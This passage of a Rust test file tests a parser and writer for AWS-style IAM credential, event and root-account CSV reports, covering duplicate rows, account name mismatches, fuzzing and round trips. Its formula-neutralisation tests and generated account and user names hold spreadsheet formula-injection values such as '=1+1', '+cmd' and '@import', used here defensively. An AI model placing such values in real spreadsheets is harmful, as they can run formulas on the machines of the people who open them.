            "`Production` (1 row, first on line 2)",
            "using `Legacy-App`",
        ],
    );

    // A file whose names agree has no notes.
    let inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    assert!(inv.accounts.iter().all(|a| a.collection.notes.is_empty()));
    assert!(inv.notes.is_empty());
}

#[test]
fn events_with_other_account_names_are_read_with_a_warning() {
    let mut inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    // The report names 123456789012 `Legacy-App`; these events `Production` and `Legacy-App`.
    let events = format!(
        "{EVENTS_HEADER}\n\
2026-03-01 10:30:00,DeleteAccessKey,admin-user,123456789012,Production,AKIAIOSFODNN7EXAMPLE\n\
2026-03-01 10:31:00,DeleteLoginProfile,security-team,123456789012,Legacy-App,old-contractor\n\
2026-03-02 14:20:00,DeleteUser,security-team,123456789012,Production,old-contractor\n\
2026-03-02 15:00:00,CreateUser,security-team,999999999999,Elsewhere,new-user\n\
2026-03-02 15:01:00,CreateUser,security-team,999999999999,Elsewhere-Renamed,new-user-2\n"
    );
    let (read, logged) =
        warnings_of(|| read_events(Path::new(EVENTS_PATH), events.as_bytes(), &mut inv));
    read.unwrap();
    // Each event keeps the name it was written with: the round trip is exact.
    assert_eq!(text(&events_bytes(&inv)), events);
    let names: Vec<&str> = inv.events.iter().map(|e| e.account_name.as_str()).collect();
    assert_eq!(
        names,
        [
            "Production",
            "Legacy-App",
            "Production",
            "Elsewhere",
            "Elsewhere-Renamed"
        ]
    );
    // The account keeps the report's name; the difference is noted on it.
    let a = account(&inv, "123456789012");
    assert_eq!(a.name, "Legacy-App");
    assert_eq!(a.collection.notes.len(), 1, "{:?}", a.collection.notes);
    assert_contains_all(
        &a.collection.notes[0],
        &[
            EVENTS_PATH,
            "account 123456789012",
            "`Production` (2 events, first on line 2)",
            "`Legacy-App`",
        ],
    );
    // An account only the events know: the note is the run's.
    assert!(inv.accounts.iter().all(|a| a.id != "999999999999"));
    assert_eq!(inv.notes.len(), 1, "{:?}", inv.notes);
    assert_contains_all(
        &inv.notes[0],
        &[
            "account 999999999999",
            "`Elsewhere` (1 event, first on line 5)",
            "`Elsewhere-Renamed` (1 event, first on line 6)",
        ],
    );
    assert_contains_all(&logged, &["WARN", EVENTS_PATH, "account 123456789012"]);
    assert_contains_all(&logged, &["account 999999999999"]);
}

#[test]
fn a_root_report_naming_an_account_otherwise_is_a_warning() {
    let mut inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    let renamed = format!("{ROOT_HEADER}\n111111111111,Account-Z,True,False,Nunca\n");
    let (read, logged) =
        warnings_of(|| read_root(Path::new(ROOT_PATH), renamed.as_bytes(), &mut inv));
    read.unwrap();
    let a = account(&inv, "111111111111");
    // The report's name is kept.
    assert_eq!(a.name, "Account-A");
    assert!(a.root.as_ref().is_some_and(|r| r.mfa_enabled));
    assert_eq!(a.collection.notes.len(), 1, "{:?}", a.collection.notes);
    assert_contains_all(
        &a.collection.notes[0],
        &[
            ROOT_PATH,
            "line 2",
            "`Account-Z`",
            "`Account-A`",
            "keeping `Account-A`",
        ],
    );
    assert_contains_all(&logged, &["WARN", ROOT_PATH, "line 2", "`Account-Z`"]);
}

#[test]
fn rows_repeated_exactly_are_read_once_with_a_warning() {
    // Concatenated runs in which nothing changed: every row twice, the header too (`cat`).
    let same_time_other_form = ROW.replace("2023-01-15 09:30:00", "2023-01-15T09:30:00Z");
    let na = "555666777888,Development,console-only,Configurada,2026-03-03 09:12:00,N/A,N/A,N/A,N/A,N/A,Hardware";
    let body =
        format!("{REPORT_HEADER}\n{ROW}\n{na}\n{REPORT_HEADER}\n{same_time_other_form}\n{na}\n");
    let path = Path::new("in").join(REPORT_PATH);
    let (inv, logged) = warnings_of(|| read_report(&path, body.as_bytes()));
    let inv = inv.unwrap();
    assert_eq!(inv.user_count(), 2);
    assert_eq!(inv.key_count(), 1);
    let expected = format!("{REPORT_HEADER}\n{ROW}\n{na}\n");
    assert_eq!(text(&report_bytes(&inv, false)), expected);

    let doe = account(&inv, "123456789012");
    assert_eq!(doe.collection.notes.len(), 1, "{:?}", doe.collection.notes);
    assert_contains_all(
        &doe.collection.notes[0],
        &[
            REPORT_PATH,
            "1 row repeats an earlier row exactly",
            "line 5 (`AKIAIOSFODNN7EXAMPLE` of user `john.doe`, first on line 2)",
        ],
    );
    let dev = account(&inv, "555666777888");
    assert_contains_all(
        &dev.collection.notes[0],
        &["line 6 (`N/A` row of user `console-only`, first on line 3)"],
    );
    // The repeated header is the run's note.
    assert_eq!(inv.notes.len(), 1, "{:?}", inv.notes);
    assert_contains_all(&inv.notes[0], &[REPORT_PATH, "line 4 repeats the header"]);
    assert_contains_all(
        &logged,
        &["WARN", REPORT_PATH, "line 4 repeats the header", "line 5"],
    );

    // The root report: an account listed twice alike is read once.
    let mut inv = read_report(Path::new(REPORT_PATH), REPORT).unwrap();
    let twice = format!(
        "{ROOT_HEADER}\n888888888888,A,True,False,Nunca\n{ROOT_HEADER}\n888888888888,A,True,False,Nunca\n"
    );
    read_root(Path::new(ROOT_PATH), twice.as_bytes(), &mut inv).unwrap();
    let a = account(&inv, "888888888888");
    assert_eq!(a.name, "A");
    assert_contains_all(
        &a.collection.notes[0],
        &[
            ROOT_PATH,
            "line 4 repeats line 2 (the root credentials of account 888888888888)",
        ],
    );
    assert_eq!(
        text(&root_bytes(&inv)),
        format!("{ROOT_HEADER}\n888888888888,A,True,False,Nunca\n")
    );
}

#[test]
fn failed_events_are_not_in_the_stock_events_csv() {
    let mut inv = Inventory::new(SourceKind::Scan);
    let event = |name: &str, minute: u32| Event {
        time: Utc.with_ymd_and_hms(2026, 3, 4, 9, minute, 0).unwrap(),
        name: name.into(),
        actor: "mallory".into(),
        account_id: "123456789012".into(),
        account_name: "Production".into(),
        resources: vec!["alice".into()],
        ..Default::default()
    };
    inv.events = vec![
        Event {
            error_code: Some("AccessDenied".into()),
            error_message: Some("not authorized".into()),
            ..event("DeactivateMFADevice", 0)
        },
        event("DeactivateMFADevice", 1),
        Event {
            login_outcome: Some("Failure".into()),
            resources: vec![],
            ..event("ConsoleLogin", 2)
        },
        Event {
            login_outcome: Some("Success".into()),
            resources: vec![],
            ..event("ConsoleLogin", 3)
        },
    ];
    inv.normalize();
    assert_eq!(
        text(&events_bytes(&inv)),
        format!(
            "{EVENTS_HEADER}\n\
2026-03-04 09:01:00,DeactivateMFADevice,mallory,123456789012,Production,alice\n\
2026-03-04 09:03:00,ConsoleLogin,mallory,123456789012,Production,\n"
        )
    );
    // The inventory keeps them all.
    assert_eq!(inv.events.len(), 4);
}

#[test]
fn what_the_stock_csvs_cannot_say_stays_unknown() {
    let inv = the_seed();
    // No password column in the stock root CSV: unknown, not absent.
    for a in &inv.accounts {
        if let Some(root) = &a.root {
            assert_eq!(root.password_enabled, None, "account {}", a.id);
        }
    }
    // No error code in the stock events CSV: events read from it are the successful calls
    // it lists, and their details stay unavailable.
    assert!(inv
        .events
        .iter()
        .all(|e| e.error_code.is_none() && !e.failed()));
    assert!(!inv.has(Field::EventDetails));
    assert!(!inv.has(Field::RootKeyLastUsed));
}

#[test]
fn never_panics_on_arbitrary_bytes() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let alphabet: &[u8] = b",\"\r\n 0123456789N/A-:'=\xEF\xBB\xBF\xFFaZ";
    let valid = format!("{REPORT_HEADER}\n{ROW}\n");
    for round in 0..2000 {
        let bytes: Vec<u8> = if round % 2 == 0 {
            (0..rng.below(200))
                .map(|_| alphabet[rng.below(alphabet.len() as u64) as usize])
                .collect()
        } else {
            // A valid file with a few bytes changed.
            let mut b = valid.clone().into_bytes();
            for _ in 0..=rng.below(3) {
                let i = rng.below(b.len() as u64) as usize;
                b[i] = alphabet[rng.below(alphabet.len() as u64) as usize];
            }
            b
        };
        let mut inv = Inventory::new(SourceKind::StockCsv);
        let _ = read_report(Path::new(REPORT_PATH), &bytes);
        let _ = read_events(Path::new(EVENTS_PATH), &bytes, &mut inv);
        let _ = read_root(Path::new(ROOT_PATH), &bytes, &mut inv);
    }
}

// ---------------------------------------------------------------------------------------------
// Formula neutralisation
// ---------------------------------------------------------------------------------------------

#[test]
fn neutralize_guards_every_trigger_character() {
    for trigger in ["=", "+", "-", "@", "\t", "\r"] {
        let cell = format!("{trigger}SUM(A1:A9)");
        let guarded = neutralize(&cell);
        assert_eq!(guarded, format!("'{cell}"));
        assert_eq!(unneutralize(&guarded), cell);
        assert_eq!(neutralize(trigger), format!("'{trigger}"));
    }
}

#[test]
fn neutralize_leaves_safe_cells_alone() {
    for safe in [
        "",
        "Production",
        "123456789012",
        "2026-03-01 14:23:45",
        "a=b",
        " =x",
        "'",
        "'quoted",
        "N/A",
    ] {
        assert!(
            matches!(neutralize(safe), std::borrow::Cow::Borrowed(_)),
            "{safe:?}"
        );
        assert_eq!(neutralize(safe), safe);
        assert_eq!(unneutralize(safe), safe);
    }
}

#[test]
fn unneutralize_strips_only_a_guard() {
    assert_eq!(unneutralize("'=1+1"), "=1+1");
    assert_eq!(unneutralize("'@ops"), "@ops");
    assert_eq!(unneutralize("'-svc"), "-svc");
    assert_eq!(unneutralize("'abc"), "'abc");
    assert_eq!(unneutralize("=1+1"), "=1+1");
    // A cell that already looks guarded is guarded again, so the round trip is exact.
    for tricky in ["'=x", "''=x", "'+", "''"] {
        assert_eq!(unneutralize(&neutralize(tricky)), tricky, "{tricky:?}");
    }
    assert_eq!(neutralize("'=x"), "''=x");
    assert_eq!(neutralize("''"), "''");
}

// ---------------------------------------------------------------------------------------------
// Generated round trip
// ---------------------------------------------------------------------------------------------

/// xorshift64*: a small deterministic generator.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    fn time(&mut self) -> DateTime<Utc> {
        let start = Utc.with_ymd_and_hms(2015, 1, 1, 0, 0, 0).unwrap();
        start + Duration::seconds(self.below(11 * 365 * 86_400) as i64)
    }
}

const ACCOUNT_NAMES: &[&str] = &[
    "Production",
    "prod-eu",
    "Development",
    "=1+1",
    "+cmd",
    "-minus",
    "@import",
    "'=already guarded",
    "''",
    "Team, \"Q\"",
    "multi\nline",
    "tab\tinside",
    "",
    "Ñandú ünïcödé",
];

const USER_PREFIXES: &[&str] = &[
    "user",
    "svc.",
    "=calc",
    "+plus",
    "-dash",
    "@at",
    "'=q",
    "a,b",
    "deploy-user",
    "x\"y",
];

const SERVICES: &[&str] = &["s3", "ec2", "iam", "sts", "dynamodb", "lambda"];

fn generated_inventory(seed: u64) -> Inventory {
    let mut rng = Rng(seed);
    let mut inv = Inventory::new(SourceKind::Scan);
    for (i, name) in ACCOUNT_NAMES.iter().enumerate() {
        let mut account =
            Account::new(format!("{:012}", 100_000_000_000 + i as u64 * 7_919), *name);
        if rng.chance(60) {
            account.root = Some(RootCredentials {
                mfa_enabled: rng.chance(50),
                hardware_mfa: None,
                access_key_present: rng.chance(30),
                access_key_last_used: None,
                last_console_login: rng.chance(70).then(|| {
                    rng.time()
                        .date_naive()
                        .and_hms_opt(0, 0, 0)
                        .unwrap()
                        .and_utc()
                }),
                ..Default::default()
            });
        }
        inv.accounts.push(account);
    }
    let mut key_counter = 0u64;
    for i in 0..350usize {
        // Every account gets users; some names repeat across accounts.
        let account = i % ACCOUNT_NAMES.len();
        let mut user = User::named(format!("{}{}", rng.pick(USER_PREFIXES), i % 120));
        if inv.accounts[account]
            .users
            .iter()
            .any(|u| u.name == user.name)
        {
            user.name = format!("{}-{i}", user.name);
        }
        if rng.chance(50) {
            user.password = Password {
                enabled: true,
                last_used: rng.chance(70).then(|| rng.time()),
                last_changed: None,
                ..Default::default()
            };
        } else if rng.chance(20) {
            // A removed password keeps its last sign-in.
            user.password.last_used = Some(rng.time());
        }
        let mfa = match rng.below(3) {
            0 => None,
            1 => Some(MfaType::Virtual),
            _ => Some(MfaType::Hardware),
        };
        user.mfa_devices = mfa
            .map(|kind| MfaDevice {
                serial: None,
                kind,
                enabled_at: None,
            })
            .into_iter()
            .collect();
        for _ in 0..rng.below(3) {
            key_counter += 1;
            let created = if rng.chance(10) {
                // Keys created in the same second as another.
                Utc.with_ymd_and_hms(2023, 1, 15, 10, 0, 0).unwrap()
            } else {
                rng.time()
            };
            let last_used = rng
                .chance(70)
                .then(|| created + Duration::seconds(rng.below(500 * 86_400) as i64));
            user.access_keys.push(AccessKey {
                id: format!("AKIA{:016X}", key_counter.wrapping_mul(0x9E37_79B9)),
                status: *rng.pick(&[KeyStatus::Active, KeyStatus::Inactive, KeyStatus::Expired]),
                created,
                last_used_service: last_used
                    .filter(|_| rng.chance(90))
                    .map(|_| rng.pick(SERVICES).to_string()),
                last_used,
                last_used_region: None,
                ..Default::default()
            });
        }
        inv.accounts[account].users.push(user);
    }
    for _ in 0..200 {
        let account = rng.pick(&inv.accounts).clone();
        let resources = (0..rng.below(4))
            .map(|_| {
                if rng.chance(50) {
                    format!("user{}", rng.below(50))
                } else {
                    format!("AKIA{:016}", rng.below(1_000))
                }
            })
            .collect();
        inv.events.push(Event {
            time: if rng.chance(10) {
                Utc.with_ymd_and_hms(2026, 3, 1, 10, 30, 0).unwrap()
            } else {
                rng.time()
            },
            name: rng
                .pick(&[
                    "CreateUser",
                    "DeleteUser",
                    "CreateAccessKey",
                    "DeleteAccessKey",
                    "ConsoleLogin",
                ])
                .to_string(),
            actor: rng
                .pick(&["root", "security-team", "=evil", "@ops", ""])
                .to_string(),
            account_id: account.id,
            account_name: account.name,
            resources,
            ..Default::default()
        });
    }
    inv.normalize();
    inv
}

#[test]
fn generated_inventories_round_trip() {
    // Three seeds that once found bugs, then more (`ROUND_TRIP_SEEDS` for a longer run).
    let more: u64 = std::env::var("ROUND_TRIP_SEEDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(12);
    let seeds = [1, 0xDEAD_BEEF, 42_424_242]
        .into_iter()
        .chain((0..more).map(|i| 0x5EED_0000 + i * 7919));
    for seed in seeds {
        let inv = generated_inventory(seed);
        assert!(inv.user_count() >= 300);
        let report = report_bytes(&inv, false);
        let events = events_bytes(&inv);
        let root = root_bytes(&inv);

        let mut back = read_report(Path::new(REPORT_PATH), &report).unwrap();
        read_events(Path::new(EVENTS_PATH), &events, &mut back).unwrap();
        read_root(Path::new(ROOT_PATH), &root, &mut back).unwrap();

        // Field by field first, for a readable failure.
        assert_eq!(back.accounts.len(), inv.accounts.len());
        for (got, want) in back.accounts.iter().zip(&inv.accounts) {
            assert_eq!(got.id, want.id);
            assert_eq!(got.name, want.name, "account {}", want.id);
            assert_eq!(got.root, want.root, "account {}", want.id);
            assert_eq!(got.users.len(), want.users.len(), "account {}", want.id);
            for (gu, wu) in got.users.iter().zip(&want.users) {
                assert_eq!(gu.name, wu.name, "account {}", want.id);
                assert_eq!(gu.password, wu.password, "user {}", wu.name);
                assert_eq!(gu.mfa_devices, wu.mfa_devices, "user {}", wu.name);
                assert_eq!(
                    gu.access_keys.len(),
                    wu.access_keys.len(),
                    "user {}",
                    wu.name
                );
                for (gk, wk) in gu.access_keys.iter().zip(&wu.access_keys) {
                    assert_eq!(gk, wk, "user {}", wu.name);
                }
            }
        }
        assert_eq!(back.accounts, inv.accounts);
        assert_eq!(back.events, inv.events);

        // And the bytes written again are identical.
        assert_eq!(report_bytes(&back, false), report);
        assert_eq!(events_bytes(&back), events);
        assert_eq!(root_bytes(&back), root);

        // keys_only drops exactly the users without keys.
        let keys_only = read_report(Path::new(REPORT_PATH), &report_bytes(&inv, true)).unwrap();
        assert_eq!(keys_only.key_count(), inv.key_count());
        let with_keys = inv
            .accounts
            .iter()
            .flat_map(|a| &a.users)
            .filter(|u| !u.access_keys.is_empty())
            .count();
        assert_eq!(keys_only.user_count(), with_keys);
    }
}
